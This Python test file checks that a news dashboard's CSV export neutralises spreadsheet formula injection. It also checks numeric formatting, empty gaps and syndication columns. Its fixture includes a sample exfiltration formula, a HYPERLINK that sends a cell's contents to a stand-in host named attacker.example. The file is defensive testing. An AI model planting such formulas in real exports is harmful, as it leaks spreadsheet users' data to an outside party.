"""C19: CSV formula injection in downloads is neutralised for text cells only."""

import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from dashboard.exports import ARTICLE_COLUMNS, TREND_COLUMNS, article_rows, to_csv_bytes, trend_rows
from pipelines.rollups import add_measures

CASES = Path(__file__).resolve().parents[2].parent / "shared" / "cases"

TRICKY = pd.DataFrame({
    "outlet": ["Outlet A", "Outlet B", "Outlet C", "Outlet D", "Outlet E", "=Outlet F", "Outlet G"],
    "title": ['=HYPERLINK("https://attacker.example/?q="&A1,"Read more")', "+1 555 0100 press line opens",
              "-regime- the word they avoid", "@Ministry responds", "\tTab-led headline", "Plain headline",
              "\rCR-led, with a comma"],
    "score": [0.8, 0.1, -0.25, 0.0, 0.3, 1.0, -1.0],
    "n": [1, 2, -3, 0, 1, 1, 5],
})


def _read(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)


def test_bom_and_header_unchanged():
    data = to_csv_bytes(TRICKY)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode("utf-8").splitlines()[0] == "outlet,title,score,n"


@pytest.mark.parametrize("row, column, expected", [
    (0, "title", '\'=HYPERLINK("https://attacker.example/?q="&A1,"Read more")'),
    (1, "title", "'+1 555 0100 press line opens"),
    (2, "title", "'-regime- the word they avoid"),
    (3, "title", "'@Ministry responds"),
    (4, "title", "'\tTab-led headline"),
    (5, "outlet", "'=Outlet F"),
    (5, "title", "Plain headline"),
    (6, "title", "'\rCR-led, with a comma"),
])
def test_formula_leading_text_is_prefixed(row, column, expected):
    assert _read(to_csv_bytes(TRICKY)).loc[row, column] == expected


def test_numbers_untouched_and_unquoted():
    text = to_csv_bytes(TRICKY).decode("utf-8-sig")
    assert "\n'-" not in text.replace("'-regime", "")
    lines = text.splitlines()
    assert lines[3].endswith(",-0.25,-3")          # Outlet C: negative numbers as numbers
    assert lines[4].endswith(",0.0,0")
    back = _read(to_csv_bytes(TRICKY))
    assert back["score"].tolist() == ["0.8", "0.1", "-0.25", "0.0", "0.3", "1.0", "-1.0"]


def test_quoted_and_formula_leading_value():
    # C19 item 5: a value with a comma (so quoted) that also starts with '='.
    df = pd.DataFrame({"title": ["=SUM(1,2), then more"], "x": [-1.5]})
    text = to_csv_bytes(df).decode("utf-8-sig")
    assert text.splitlines()[1] == "\"'=SUM(1,2), then more\",-1.5"


def test_source_frame_not_modified():
    before = TRICKY.copy()
    to_csv_bytes(TRICKY)
    pd.testing.assert_frame_equal(TRICKY, before)   # C19 item 4: the app keeps the original text


def test_missing_values_are_empty_not_zero():
    df = pd.DataFrame({"outlet": ["A", "A"], "rate": [1.5, float("nan")], "who": ["x", None]})
    assert to_csv_bytes(df).decode("utf-8-sig").splitlines()[2] == "A,,"


def test_trend_rows_columns_and_dates():
    df = pd.DataFrame({"outlet": ["B", "A"], "period": pd.to_datetime(["2026-03-02", "2026-03-09"]),
                       "n_articles": [1, 0], "n_words": [10, 0], "n_mentions": [1.0, float("nan")],
                       "n_articles_with_mention": [1, 0], "rate_per_1k": [100.0, float("nan")],
                       "rate_low": [1.0, float("nan")], "rate_high": [200.0, float("nan")],
                       "share": [1.0, float("nan")], "share_low": [0.2, float("nan")],
                       "share_high": [1.0, float("nan")], "collected": pd.array([True, False], dtype="boolean"),
                       "status": ["ok", "not collected"], "extra": [1, 2]})
    rows = trend_rows(df)
    assert list(rows.columns) == TREND_COLUMNS
    assert rows["outlet"].tolist() == ["A", "B"] and rows["period"].tolist() == ["2026-03-09", "2026-03-02"]
    line = to_csv_bytes(rows).decode("utf-8-sig").splitlines()[1]
    assert line == "A,2026-03-09,0,0,,,,,,,,,False,not collected,False"   # C13: a gap is empty, never 0


def _gap_frame():
    # One outlet, four weeks: counted, collector ran but nothing published, collector down, no coverage info.
    df = pd.DataFrame({"outlet": ["A"] * 4, "period": pd.date_range("2026-03-02", periods=4, freq="W-MON"),
                       "n_articles": [3, 0, 0, 0], "n_words": [1200, 0, 0, 0], "n_mentions": [2.0, 0.0, np.nan, np.nan],
                       "n_articles_with_mention": [1, 0, 0, 0],
                       "collected": pd.array([True, True, False, pd.NA], dtype="boolean"),
                       "status": ["ok", "no articles", "not collected", "no data"]})
    return add_measures(df)


def test_gap_rows_have_empty_counts_unless_the_collector_ran():
    rows = _read(to_csv_bytes(trend_rows(_gap_frame())))
    got = rows[["status", "n_articles", "n_mentions", "n_articles_with_mention", "rate_per_1k", "share"]].values.tolist()
    assert got[1:] == [["no articles", "0", "0", "0", "", ""],            # the outlet published nothing: a real 0
                       ["not collected", "0", "", "", "", ""],             # nobody looked: empty, never 0
                       ["no data", "0", "", "", "", ""]]
    assert got[0][:4] == ["ok", "3", "2", "1"]                               # counts print as integers, not "2.0"


def test_measures_are_rounded_in_the_csv_only():
    df = _gap_frame()
    df.loc[0, "share_low"] = 8.673617379884035e-16                          # float noise from the Wilson formula
    df.loc[0, "rate_per_1k"] = 1.0 / 3.0
    before = df.copy()
    rows = _read(to_csv_bytes(trend_rows(df)))
    assert rows.loc[0, "share_low"] == "0.0" and rows.loc[0, "rate_per_1k"] == "0.3333333333"
    assert "e-" not in to_csv_bytes(trend_rows(df)).decode("utf-8-sig")
    pd.testing.assert_frame_equal(df, before)                                # full precision kept in memory
    assert df.loc[0, "share_low"] == 8.673617379884035e-16


def test_partial_column_defaults_to_false_and_is_kept():
    assert trend_rows(_gap_frame())["partial"].tolist() == [False] * 4
    marked = _gap_frame().assign(partial=[True, False, False, True])
    assert _read(to_csv_bytes(trend_rows(marked)))["partial"].tolist() == ["True", "False", "False", "True"]


def test_case_file_c19():
    path = CASES / "C19" / "export_rows.csv"
    if not path.exists():
        pytest.skip(f"case file absent: {path.name}")
    rows = pd.read_csv(path)
    back = _read(to_csv_bytes(rows))
    assert back["outlet"].iloc[5] == "'=Outlet F"
    assert back["title"].iloc[5] == "Plain headline"
    assert all(t.startswith("'") for t in back["title"].iloc[:5])
    assert back["score"].tolist() == ["0.8", "0.1", "-0.25", "0.0", "0.3", "1.0"]


def test_article_rows_carry_syndication_c11():
    # The frame of pipelines.rollups.article_list (C11 item 5): wire copies share a cluster id.
    listed = pd.DataFrame({
        "article_id": ["o1", "w1", "w2"], "outlet": ["Outlet D", "Outlet A", "=Outlet B"],
        "published_at": pd.to_datetime(["2026-03-05 10:00", "2026-03-05 08:00", "2026-03-05 08:20"], utc=True),
        "title": ["Our view", "Drills begin", "Navy drills"], "url": ["https://d.example/1", None, None],
        "n_words": [9, 23, 23], "n_mentions": [1, 0, 0],
        "syndicated": pd.array([False, True, True], dtype="boolean"), "cluster_id": [None, "w1", "w1"]})
    rows = article_rows(listed)
    assert list(rows.columns) == ARTICLE_COLUMNS and ARTICLE_COLUMNS[-2:] == ["syndicated", "cluster_id"]
    assert rows["syndicated"].tolist() == [False, True, True]
    back = pd.read_csv(io.BytesIO(to_csv_bytes(rows)), encoding="utf-8-sig", keep_default_na=False)
    assert back["syndicated"].tolist() == [False, True, True]
    assert back["cluster_id"].tolist() == ["", "w1", "w1"]    # no cluster: an empty cell
    assert back["outlet"].tolist()[2] == "'=Outlet B"           # still neutralised
    assert list(listed.columns)[-1] == "cluster_id" and listed["syndicated"].dtype == "boolean"  # input untouched
